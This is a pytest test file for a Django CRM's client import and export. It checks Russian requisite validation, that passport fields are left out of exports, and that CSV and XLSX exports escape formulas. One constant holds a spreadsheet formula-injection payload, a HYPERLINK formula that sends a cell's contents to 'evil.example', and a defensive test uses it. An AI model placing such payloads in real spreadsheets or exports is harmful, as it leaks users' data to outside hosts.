"""Import and export of clients through the admin, with the same validation as the pages."""

import io

import pytest
import tablib
from django.urls import reverse

from contacts import services
from contacts.models import BankAccount, Client, RequisiteChange
from contacts.resources import ClientResource

HEADERS = [
    "ID",
    "Тип",
    "Краткое наименование",
    "Полное наименование",
    "ФИО",
    "ИНН",
    "КПП",
    "ОГРН",
    "Юридический адрес",
    "Должность подписанта",
    "ФИО подписанта",
    "Банк",
    "БИК",
    "Корреспондентский счёт",
    "Расчётный счёт",
    "Телефоны",
]
GOOD = [
    "",
    "Юридическое лицо",
    "ООО «Ромашка»",
    "Общество с ограниченной ответственностью «Ромашка»",
    "",
    "7707083893",
    "773601001",
    "1027700132195",
    "г. Москва",
    "Генеральный директор",
    "Петров Сергей Николаевич",
    "ПАО Сбербанк",
    "044525225",
    "30101810400000000225",
    "40702810938000012345",
    "8 (916) 123-45-67",
]
IP = [
    "",
    "entrepreneur",
    "",
    "",
    "Соколова Марина Викторовна",
    "500100732259",
    "",
    "",
    "",
    "",
    "",
    "",
    "",
    "",
    "",
    "",
]


def dataset(*rows):
    data = tablib.Dataset(headers=HEADERS)
    for row in rows:
        data.append(row)
    return data


@pytest.mark.django_db
class TestImport:
    def test_valid_rows_are_imported_with_the_bank_account_and_logged(self, head):
        data = dataset(GOOD)
        result = ClientResource().import_data(data, dry_run=False, user=head)
        assert not result.has_errors() and not result.has_validation_errors()
        client = Client.objects.get()
        assert client.name == "ООО «Ромашка»"
        assert client.phones == ["+79161234567"]
        assert client.signatory_name_genitive == "Петрова Сергея Николаевича"
        assert client.default_bank_account.settlement_account == "40702810938000012345"
        change = client.changes.get()
        assert change.action == RequisiteChange.Action.IMPORTED and change.by == head

    def test_a_bad_row_imports_nothing_and_each_bad_row_is_reported(self, head):
        bad_inn = list(GOOD)
        bad_inn[HEADERS.index("ИНН")] = "7707083894"
        bad_inn[HEADERS.index("Краткое наименование")] = "ООО «Другая»"
        bad_account = list(GOOD)
        bad_account[HEADERS.index("ИНН")] = "5003123458"
        bad_account[HEADERS.index("Расчётный счёт")] = "40702810938000012346"
        ip_without_ogrnip = list(IP)
        result = ClientResource().import_data(
            dataset(GOOD, bad_inn, bad_account, ip_without_ogrnip), dry_run=False, user=head
        )
        assert result.has_validation_errors()
        invalid = {row.number: row.error_dict for row in result.invalid_rows}
        assert sorted(invalid) == [2, 3, 4]
        assert "ИНН: неверное контрольное число" in str(invalid[2]["ИНН"])
        assert "не подходит к БИК" in str(invalid[3]["Расчётный счёт"])
        assert "Заполните поле «ОГРНИП»." in str(invalid[4]["ОГРНИП"])
        assert not Client.objects.exists() and not BankAccount.objects.exists()

    def test_the_same_inn_twice_in_a_file_is_a_bad_row(self, head):
        result = ClientResource().import_data(dataset(GOOD, GOOD), dry_run=False, user=head)
        assert result.has_validation_errors()
        (row,) = result.invalid_rows
        assert "уже есть" in str(row.error_dict["ИНН"])
        assert not Client.objects.exists()

    def test_an_unknown_type_is_named(self, head):
        row = list(GOOD)
        row[HEADERS.index("Тип")] = "ООО"
        result = ClientResource().import_data(dataset(row), dry_run=False, user=head)
        (invalid,) = result.invalid_rows
        assert "«ООО» — нет такого значения" in str(invalid.error_dict)


@pytest.mark.django_db
class TestExport:
    def test_export_carries_requisites_and_the_account_but_no_passport(self, head):
        services.client_save(
            client=Client(
                kind=Client.Kind.PERSON,
                person_name="Кузьмин Андрей Павлович",
                registration_address="г. Москва",
                passport_series="4510",
                passport_number="654321",
                phones=["+79161234567"],
            ),
            by=head,
            accounts=[
                BankAccount(
                    bank_name="ПАО Сбербанк",
                    bik="044525225",
                    correspondent_account="30101810400000000225",
                    settlement_account="40817810838000098765",
                )
            ],
        )
        exported = ClientResource().export()
        assert "Серия паспорта" not in exported.headers
        assert "Номер паспорта" not in exported.headers
        row = dict(zip(exported.headers, exported[0], strict=True))
        assert row["ФИО"] == "Кузьмин Андрей Павлович"
        assert row["Тип"] == "Физическое лицо"
        assert row["Расчётный счёт"] == "40817810838000098765"
        assert row["Телефоны"] == "+7 916 123-45-67"
        assert "654321" not in exported.csv


@pytest.fixture
def admin_client(client, db):
    from crm.models import User

    admin = User.objects.create_superuser("root", "root@example.ru", "root")
    client.force_login(admin)
    return client


@pytest.mark.django_db
class TestAdmin:
    def test_the_admin_import_reports_bad_rows_and_imports_nothing(self, admin_client):
        bad = list(GOOD)
        bad[HEADERS.index("КПП")] = "77360100"
        csv = dataset(GOOD, bad).csv.encode()
        response = admin_client.post(
            reverse("admin:contacts_client_import"),
            {
                "resource": "0",
                "format": "0",
                "import_file": io.BytesIO(csv),
            },
            format="multipart",
        )
        assert response.status_code == 200
        assert "КПП: 9 знаков" in response.text
        assert not Client.objects.exists()

    def test_the_admin_saves_a_client_through_the_service(self, admin_client):
        data = {
            "kind": "legal",
            "name": "ООО «Ромашка»",
            "full_name": "Общество с ограниченной ответственностью «Ромашка»",
            "inn": "7707083893",
            "kpp": "773601001",
            "ogrn": "1027700132195",
            "legal_address": "г. Москва",
            "signatory_position": "Директор",
            "signatory_name": "Петров Сергей Николаевич",
            "basis_kind": "charter",
            "bank_accounts-TOTAL_FORMS": "1",
            "bank_accounts-INITIAL_FORMS": "0",
            "bank_accounts-MIN_NUM_FORMS": "0",
            "bank_accounts-MAX_NUM_FORMS": "1000",
            "bank_accounts-0-bank_name": "ПАО Сбербанк",
            "bank_accounts-0-bik": "044525225",
            "bank_accounts-0-correspondent_account": "30101810400000000225",
            "bank_accounts-0-settlement_account": "40702810938000012345",
            "changes-TOTAL_FORMS": "0",
            "changes-INITIAL_FORMS": "0",
            "changes-MIN_NUM_FORMS": "0",
            "changes-MAX_NUM_FORMS": "0",
        }
        response = admin_client.post(reverse("admin:contacts_client_add"), data)
        assert response.status_code == 302, response.context["errors"]
        client = Client.objects.get()
        assert client.signatory_name_genitive == "Петрова Сергея Николаевича"
        assert client.default_bank_account.is_default
        assert client.changes.get().action == RequisiteChange.Action.CREATED

    def test_the_admin_refuses_a_wrong_ogrn(self, admin_client):
        response = admin_client.post(
            reverse("admin:contacts_client_add"),
            {
                "kind": "legal",
                "name": "ООО «А»",
                "ogrn": "1027700132196",
                "basis_kind": "charter",
                "bank_accounts-TOTAL_FORMS": "0",
                "bank_accounts-INITIAL_FORMS": "0",
                "changes-TOTAL_FORMS": "0",
                "changes-INITIAL_FORMS": "0",
            },
        )
        assert response.status_code == 200
        assert "ОГРН: неверное контрольное число" in response.text


FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Реквизиты")'


def _export(admin_client, file_format: str):
    page = admin_client.get(reverse("admin:contacts_client_export"))
    fields = {name: "on" for name in page.context["form"].fields if name.startswith("client")}
    return admin_client.post(
        reverse("admin:contacts_client_export"),
        {"format": {"csv": "0", "xlsx": "1"}[file_format], "resource": "0", **fields},
    )


@pytest.fixture
def entrepreneur(head):
    import datetime

    return services.client_save(
        client=Client(
            kind=Client.Kind.ENTREPRENEUR,
            person_name="Соколова Марина Викторовна",
            inn="500100732259",
            ogrnip="304500116000157",
            ogrnip_date=datetime.date(2004, 3, 12),
            registration_address=FORMULA,
            postal_address="г. Москва\x01",
            phones=["+79161234567"],
        ),
        by=head,
    )


@pytest.mark.django_db
class TestAdminExport:
    def test_the_csv_export_has_dates_and_escapes_formulas(self, admin_client, entrepreneur):
        response = _export(admin_client, "csv")
        assert response.status_code == 200
        rows = tablib.Dataset().load(response.content.decode(), format="csv").dict
        (row,) = rows
        assert row["Дата ОГРНИП"] == "12.03.2004"
        assert row["Адрес регистрации"] == "'" + FORMULA
        assert row["Телефоны"] == "+7 916 123-45-67"

    def test_the_xlsx_export_writes_formulas_as_text(self, admin_client, entrepreneur):
        from openpyxl import load_workbook

        response = _export(admin_client, "xlsx")
        assert response.status_code == 200
        sheet = load_workbook(io.BytesIO(response.content)).active
        header = [c.value for c in sheet[1]]
        cell = sheet.cell(row=2, column=header.index("Адрес регистрации") + 1)
        assert (cell.data_type, cell.value) == ("s", "'" + FORMULA)
        # A control character no XLSX file may hold is shown, not a failed export.
        postal = sheet.cell(row=2, column=header.index("Почтовый адрес") + 1)
        assert postal.value == "г. Москва\ufffd"

    @pytest.mark.parametrize("day", ["12.03.2004", "2004-03-12"])
    def test_the_import_reads_dates_in_both_formats(self, head, day):
        data = tablib.Dataset(
            headers=["Тип", "ФИО", "ИНН", "ОГРНИП", "Дата ОГРНИП", "Адрес регистрации"]
        )
        data.append(
            [
                "Индивидуальный предприниматель",
                "Соколова Марина Викторовна",
                "500100732259",
                "304500116000157",
                day,
                "г. Москва",
            ]
        )
        result = ClientResource().import_data(data, dry_run=False, user=head)
        assert not result.has_errors() and not result.has_validation_errors()
        assert str(Client.objects.get().ogrnip_date) == "2004-03-12"

    def test_a_wrong_date_in_the_import_is_named_in_russian(self, head):
        data = tablib.Dataset(headers=["Тип", "ФИО", "Дата ОГРНИП"])
        data.append(["Индивидуальный предприниматель", "Соколова Марина Викторовна", "31.02.2004"])
        result = ClientResource().import_data(data, dry_run=True, user=head)
        (invalid,) = result.invalid_rows
        assert invalid.error_dict["Дата ОГРНИП"] == [
            "«31.02.2004» — не дата: нужна дата вида 05.03.2026."
        ]
